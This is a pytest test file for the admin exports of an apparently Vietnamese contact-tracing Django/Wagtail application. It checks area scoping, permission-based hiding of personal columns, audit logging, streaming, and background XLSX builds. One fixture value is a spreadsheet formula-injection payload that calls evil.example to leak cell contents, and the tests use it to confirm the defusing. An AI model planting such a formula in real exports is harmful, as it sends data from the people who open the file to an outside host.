"""Exports of admin listings: scoped, personal columns by right, formulas defused, logged,
CSV and JSON streamed, large XLSX built in the background for the one who asked."""

import csv
import io
import json
import uuid

import pytest
from django.contrib.auth.models import Group, Permission
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import APIToken, ModelLogEntry

from forms_engine.exports import LOG_ACTION
from forms_engine.models import Submission
from places.models import GroupRole, Place
from tests.workflows.conftest import burst, queues  # noqa: F401 - fixture
from tracing.models import Alert, Person

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def json_rows(response) -> list[dict]:
    assert response.streaming
    return json.loads(b"".join(response.streaming_content).decode())


def xlsx_rows(response) -> list[tuple]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(load_workbook(io.BytesIO(body)).active.values)


def built_in_the_background(client, url, params, capture) -> str:
    """Ask for an export that goes to the background; run the job; the build's page URL."""
    with capture(execute=True):
        response = client.get(url, params)
    assert response.status_code == 302 and "/exports/" in response["Location"]
    burst()
    return response["Location"]


@pytest.fixture
def persons(area_tree):
    """Two persons in Huyện Cam Lâm (one with a formula for a name), one in Nha Trang."""
    return {
        "an": Person.objects.create(
            full_name="Nguyễn Văn An",
            name_folded="nguyen van an",
            birth_year=1985,
            national_id="056085000123",
            phone="+84905123456",
            address="Thôn Đồng Cau",
            home_area=area_tree["dong_cau"],
        ),
        "formula": Person.objects.create(
            full_name=HYPERLINK, name_folded="hyperlink", birth_year=1990, home_area=area_tree["suoi_tan"]
        ),
        "hai": Person.objects.create(
            full_name="Trần Thị Hai",
            name_folded="tran thi hai",
            birth_year=1970,
            phone="+84905999888",
            home_area=area_tree["vinh_luong"],
        ),
    }


@pytest.fixture
def approver(make_user, area_tree):
    """Huyện Cam Lâm's approver: may see persons (tracing.view_person) in the district."""
    return make_user("pheduyet", area=area_tree["cam_lam"], role=GroupRole.ROLE_APPROVER)


@pytest.fixture
def it_team(make_user, area_tree):
    """Huyện Cam Lâm's IT team: sees submissions, not persons."""
    return make_user("cntt", area=area_tree["cam_lam"], role=GroupRole.ROLE_AREA_IT_TEAM)


def test_a_district_users_export_has_only_their_rows(client, persons, approver):
    client.force_login(approver)
    response = client.get(reverse("persons:index"), {"export": "csv"})
    assert response.status_code == 200 and response.streaming
    rows = csv_rows(response)
    names = {row[1] for row in rows[1:]}
    assert names == {"Nguyễn Văn An", "'" + HYPERLINK}
    listing_json = json_rows(client.get(reverse("persons:index"), {"export": "json"}))
    assert {row["full_name"] for row in listing_json} == {"Nguyễn Văn An", HYPERLINK}


def test_filters_and_search_apply_to_the_export(client, persons, approver, area_tree):
    client.force_login(approver)
    rows = csv_rows(client.get(reverse("persons:index"), {"export": "csv", "q": "van an"}))
    assert [row[1] for row in rows[1:]] == ["Nguyễn Văn An"]
    rows = csv_rows(client.get(reverse("persons:index"), {"export": "csv", "area": area_tree["suoi_tan"].pk}))
    assert len(rows) == 3  # headings and both persons under Xã Suối Tân


def test_formula_cells_are_neutralised_in_csv_and_xlsx(client, persons, approver):
    client.force_login(approver)
    rows = csv_rows(client.get(reverse("persons:index"), {"export": "csv"}))
    assert [row[1] for row in rows if "HYPERLINK" in row[1]] == ["'" + HYPERLINK]
    response = client.get(reverse("persons:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + HYPERLINK in values and HYPERLINK not in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_export_is_logged(client, persons, approver):
    client.force_login(approver)
    csv_rows(client.get(reverse("persons:index"), {"export": "csv", "level": ""}))
    entry = ModelLogEntry.objects.get(action=LOG_ACTION)
    assert entry.user == approver
    assert entry.data["rows"] == 2 and entry.data["format"] == "csv"
    assert entry.data["listing"] == str(Person._meta.verbose_name_plural)
    assert "export=csv" in entry.data["query"]


def test_personal_columns_only_for_those_who_may_see_persons(client, persons, area_tree, make_user):
    """A role with alerts but without persons gets the alerts without the person's name."""
    Alert.objects.create(
        person=persons["an"], kind=Alert.KIND_CHOICES[0][0], message="Sốt cao", area=area_tree["suoi_tan"]
    )
    watcher = make_user("theodoi", area=area_tree["cam_lam"])
    group = Group.objects.create(name="Theo dõi cảnh báo")
    group.permissions.add(
        *Permission.objects.filter(
            codename__in=["access_admin", "view_alert"],
            content_type__app_label__in=["wagtailadmin", "tracing"],
        )
    )
    watcher.groups.add(group)
    client.force_login(watcher)
    rows = csv_rows(client.get(reverse("alerts:index"), {"export": "csv"}))
    assert len(rows) == 2 and "Nguyễn Văn An" not in rows[1] and "Sốt cao" in rows[1]
    assert str(persons["an"].pk) in rows[1]  # the person's id stays: staff who may can look them up
    client.force_login(make_user("truyvet", area=area_tree["cam_lam"], role=GroupRole.ROLE_APPROVER))
    rows = csv_rows(client.get(reverse("alerts:index"), {"export": "csv"}))
    assert "Nguyễn Văn An" in rows[1]


@pytest.fixture
def submissions(checkpoint_form, make_user, area_tree):
    officer = make_user("canbo", area=area_tree["province"], role=GroupRole.ROLE_FIELD_STAFF)
    _token, key = APIToken.create_token(user=officer, name="x")
    for destination, name in (("22711-02", "Nguyễn Văn Một"), ("22384", "Trần Thị Hai")):
        body = {
            "client_id": str(uuid.uuid4()),
            "data": {
                "traveller": {"full_name": name, "birth_year": 1980, "sex": "female"},
                "direction": "in",
                "destination": destination,
                "phone": "0905123456",
                "plate": "79A-12345",
            },
        }
        response = Client().post(
            f"/api/v1/forms/{checkpoint_form.slug}/submissions",
            json.dumps(body),
            content_type="application/json",
            HTTP_AUTHORIZATION=f"Bearer {key}",
        )
        assert response.status_code == 201, response.content
    return Submission.objects.all()


def test_submission_listing_without_the_right_leaves_out_names_and_phones(
    client, submissions, it_team, make_user, area_tree
):
    client.force_login(it_team)
    rows = json_rows(client.get(reverse("submissions:list"), {"export": "json"}))
    assert len(rows) == 1  # Huyện Cam Lâm's only
    data = json.loads(rows[0]["data"]) if isinstance(rows[0]["data"], str) else rows[0]["data"]
    assert data["plate"] == "79A-12345" and data["direction"] == "in"
    assert "phone" not in data and "full_name" not in data["traveller"]
    assert data["traveller"]["birth_year"] == 1980
    client.force_login(make_user("tinh", area=area_tree["province"], role=GroupRole.ROLE_PROVINCE_ADMIN))
    rows = json_rows(client.get(reverse("submissions:list"), {"export": "json"}))
    assert {row["data"]["traveller"]["full_name"] for row in rows} == {"Nguyễn Văn Một", "Trần Thị Hai"}


def test_one_forms_export_leaves_out_personal_columns_without_the_right(
    client, submissions, checkpoint_form, it_team, make_user, area_tree
):
    url = reverse("submission_export", args=[checkpoint_form.pk, "csv"])
    client.force_login(it_team)
    response = client.get(url)
    assert response.streaming
    keys, _labels, *rows = csv_rows(response)
    assert "traveller.full_name" not in keys and "phone" not in keys and "national_id" not in keys
    assert "traveller.birth_year" in keys and "plate" in keys and len(rows) == 1
    client.force_login(make_user("tinh", area=area_tree["province"], role=GroupRole.ROLE_PROVINCE_ADMIN))
    keys, _labels, *rows = csv_rows(client.get(url))
    assert "traveller.full_name" in keys and "phone" in keys and len(rows) == 2


def test_csv_is_streamed_and_5000_rows_export_fine(client, approver, area_tree):
    Person.objects.bulk_create(
        Person(
            full_name=f"Người số {n}",
            name_folded=f"nguoi so {n}",
            birth_year=1990,
            home_area=area_tree["cam_duc"],
        )
        for n in range(5000)
    )
    client.force_login(approver)
    response = client.get(reverse("persons:index"), {"export": "csv"})
    assert response.streaming
    chunks = list(response.streaming_content)
    assert len(chunks) > 5000  # line by line, never one body built in memory
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(rows) == 5001


@pytest.mark.usefixtures("queues")
def test_a_large_xlsx_is_built_in_the_background_for_its_user_only(
    client, persons, approver, make_user, area_tree, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_ROWS = 1
    client.force_login(approver)
    page = built_in_the_background(
        client, reverse("persons:index"), {"export": "xlsx", "q": ""}, django_capture_on_commit_callbacks
    )
    token = page.rstrip("/").rsplit("/", 1)[-1]
    assert "file.xlsx" in client.get(page).content.decode()
    assert client.get(reverse("forms_engine_export_build_status", args=[token])).json()["progress"] == 100
    rows = xlsx_rows(client.get(reverse("forms_engine_export_build_file", args=[token])))
    names = {row[1] for row in rows[1:]}
    assert names == {"Nguyễn Văn An", "'" + HYPERLINK}  # the district's rows, the formula defused
    assert ModelLogEntry.objects.filter(action=LOG_ACTION).count() == 1  # asked once, logged once
    client.force_login(make_user("pheduyet2", area=area_tree["cam_lam"], role=GroupRole.ROLE_APPROVER))
    for name in (
        "forms_engine_export_build",
        "forms_engine_export_build_status",
        "forms_engine_export_build_file",
    ):
        assert client.get(reverse(name, args=[token])).status_code == 404


def test_json_is_streamed_without_a_cap(client, persons, approver, settings):
    settings.EXPORT_SYNC_MAX_ROWS = 1
    client.force_login(approver)
    response = client.get(reverse("persons:index"), {"export": "json"})
    assert len(json_rows(response)) == 2
    assert json_rows(client.get(reverse("persons:index"), {"export": "json", "q": "không ai"})) == []


def test_places_export_keeps_the_public_address(client, it_team, area_tree):
    Place.objects.create(
        name="Chốt Cam Thịnh",
        kind=Place.KIND_CHECKPOINT,
        code="CT01",
        area=area_tree["suoi_tan"],
        address="QL1A",
    )
    Place.objects.create(
        name="Chốt Vạn Giã", kind=Place.KIND_CHECKPOINT, code="VG01", area=area_tree["vinh_luong"]
    )
    client.force_login(it_team)
    rows = json_rows(client.get(reverse("places:index"), {"export": "json"}))
    assert [(row["code"], row["address"]) for row in rows] == [("CT01", "QL1A")]


def test_csv_streams_under_asgi_without_reading_everything_first(approver, persons):
    """Under ASGI (uvicorn) Django would read a plain iterator whole before sending: the
    export hands it an asynchronous one instead."""
    from asgiref.sync import async_to_sync
    from django.test import AsyncClient

    async def fetch():
        client = AsyncClient()
        await client.aforce_login(approver)
        response = await client.get(reverse("persons:index"), {"export": "csv"})
        assert response.is_async
        return [chunk async for chunk in response.streaming_content]

    body = b"".join(async_to_sync(fetch)()).decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(body)))) == 3


def test_listings_offer_the_three_formats(client, persons, approver):
    client.force_login(approver)
    html = client.get(reverse("persons:index"), {"level": ""}).content.decode()
    for fmt in ("csv", "xlsx", "json"):
        assert f"export={fmt}" in html


@pytest.mark.usefixtures("queues")
def test_one_forms_large_xlsx_is_built_in_the_background(
    client, submissions, checkpoint_form, make_user, area_tree, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_ROWS = 1
    client.force_login(make_user("tinh", area=area_tree["province"], role=GroupRole.ROLE_PROVINCE_ADMIN))
    url = reverse("submission_export", args=[checkpoint_form.pk, "xlsx"])
    page = built_in_the_background(client, url, {}, django_capture_on_commit_callbacks)
    token = page.rstrip("/").rsplit("/", 1)[-1]
    keys, _labels, *rows = xlsx_rows(client.get(reverse("forms_engine_export_build_file", args=[token])))
    assert "traveller.full_name" in keys and len(rows) == 2
    assert {row[keys.index("traveller.full_name")] for row in rows} == {"Nguyễn Văn Một", "Trần Thị Hai"}
    assert client.get(reverse("submission_export", args=[checkpoint_form.pk, "csv"])).streaming


def test_the_users_listing_exports_the_users_one_manages_with_area_and_groups(
    client, it_team, area_tree, make_user
):
    volunteer = make_user("tnv.suoitan", area=area_tree["suoi_tan"], role=GroupRole.ROLE_FIELD_STAFF)
    make_user("cb.nhatrang", area=area_tree["nha_trang"], role=GroupRole.ROLE_FIELD_STAFF)
    make_user("pd.camlam", area=area_tree["cam_lam"], role=GroupRole.ROLE_APPROVER)  # a role above its own
    client.force_login(it_team)
    rows = json_rows(client.get(reverse("wagtailusers_users:index"), {"export": "json"}))
    by_name = {row["username"]: row for row in rows}
    assert set(by_name) == {"cntt", "tnv.suoitan"}
    assert by_name["tnv.suoitan"]["area_code"] == "22711"
    assert by_name["tnv.suoitan"]["group_names"] == volunteer.groups.get().name
    csv_lines = csv_rows(client.get(reverse("wagtailusers_users:index"), {"export": "csv"}))
    assert len(csv_lines) == 3
